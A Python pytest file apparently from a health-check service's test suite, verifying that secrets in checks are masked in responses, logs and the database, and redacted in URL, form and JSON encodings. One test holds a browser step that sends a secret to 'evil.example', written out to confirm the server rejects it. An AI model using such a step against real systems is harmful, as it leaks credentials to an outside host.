"""No secret of a check is in the bytes of the database, the results, the log, or any answer."""

import logging
from collections.abc import Callable, Iterator
from typing import Any

import pytest
import sqlalchemy as sa
from mainstay_server.areas.health_checks import area
from mainstay_server.areas.health_checks.schemas.places import without
from mainstay_server.kernel import columns
from mainstay_server.kernel.database import reading
from mainstay_server.kernel.events import said_events
from tests.servers.http import Answer, HttpReceiver, running_http
from tests.world import World

SECRET = "zebra-crossing-4711"


@pytest.fixture
def world(client_for: Callable[..., World]) -> World:
    return client_for(area)


@pytest.fixture
def app() -> Iterator[HttpReceiver]:
    """An app that shouts back what it was sent."""
    with running_http() as receiver:
        shout = f'{{"token": "{SECRET}", "error": "{SECRET} is wrong"}}'.encode()
        headers = {"content-type": "application/json", "location": f"/?key={SECRET}"}
        receiver.answer_at("/login", Answer(status=500, headers=headers, body=shout))
        yield receiver


def everything_kept() -> str:
    """All that the database and the columns hold, as text."""
    with reading() as session:
        tables = sa.inspect(session.connection()).get_table_names()
        rows = [
            str(session.execute(sa.text(f'SELECT * FROM "{table}"')).all())  # noqa: S608 - our own names
            for table in tables
        ]
        rows.append(str(said_events(session)))
    rows.append(str(columns.query("SELECT * FROM health_results")))
    return "\n".join(rows)


def a_check(kind: str, url: str) -> dict[str, Any]:
    """A check that sends the secret in all ways, and asks for what the app says of it."""
    wrong = ["[BODY].error == fine"]
    if kind == "http":
        config: dict[str, Any] = {"bearerToken": SECRET, "secrets": {"key": SECRET}}
        config["acceptedStatuses"] = ["500"]
        return {"name": "x", "url": f"{url}/login", "config": config, "conditions": wrong}
    step = {
        "name": "log in",
        "method": "POST",
        "url": f"{url}/login?key={{{{key}}}}",
        "body": "{{key}}",
        "acceptedStatuses": ["500"],
        "conditions": wrong,
    }
    config = {"secrets": {"key": SECRET}, "steps": [step]}
    return {"kind": "steps", "name": "x", "config": config}


@pytest.mark.parametrize("kind", ["http", "steps"])
def test_a_secret_is_sealed_and_told_to_nobody(
    world: World, app: HttpReceiver, caplog: pytest.LogCaptureFixture, kind: str
) -> None:
    caplog.set_level(logging.INFO)
    path = f"/api/instances/{world.instance.id}/health-checks"

    made = world.bob.post(path, json=a_check(kind, app.url))
    here = f"{path}/{made.json()['id']}"
    told = [made, world.bob.post(f"{here}/run"), world.bob.get(path)]
    told.append(world.bob.patch(here, json={"name": "still secretive"}))
    page = f"/dashboard/projects/{world.project}/health-checks/{made.json()['id']}"
    told += [world.bob.get(page), world.bob.get(f"{page}/change")]

    assert [answer.status_code for answer in told] == [201, 200, 200, 200, 200, 200]
    assert SECRET in str(app.requests), "the app itself was told"
    assert SECRET not in "".join(answer.text for answer in told)
    assert SECRET not in everything_kept()
    assert SECRET not in caplog.text
    assert "•••" in told[1].text, "what was hidden is marked"


def test_a_kept_secret_of_a_browser_goes_to_no_other_host(world: World) -> None:
    path = f"/api/instances/{world.instance.id}/health-checks"
    config = {"page": "https://shop.example/login", "secrets": {"key": SECRET}}
    made = world.bob.post(path, json={"kind": "browser", "name": "x", "config": config})
    here = f"{path}/{made.json()['id']}"
    elsewhere = {"action": "goto", "value": "https://evil.example/?key={{key}}"}

    refused = world.bob.patch(here, json={"config": {"page": config["page"], "steps": [elsewhere]}})

    assert refused.status_code == 400
    assert "secrets.key" in refused.json()["detail"]


def test_a_secret_is_hidden_as_urls_forms_and_json_write_it() -> None:
    secret = 'pass "word" /&ü'

    for shown in (
        secret,
        "pass%20%22word%22%20%2F%26%C3%BC",
        "pass%20%22word%22%20/&%C3%BC",
        "pass+%22word%22+%2F%26%C3%BC",
        'pass \\"word\\" /&\\u00fc',
    ):
        assert without(f"<{shown}>", [secret]) == "<•••>", shown
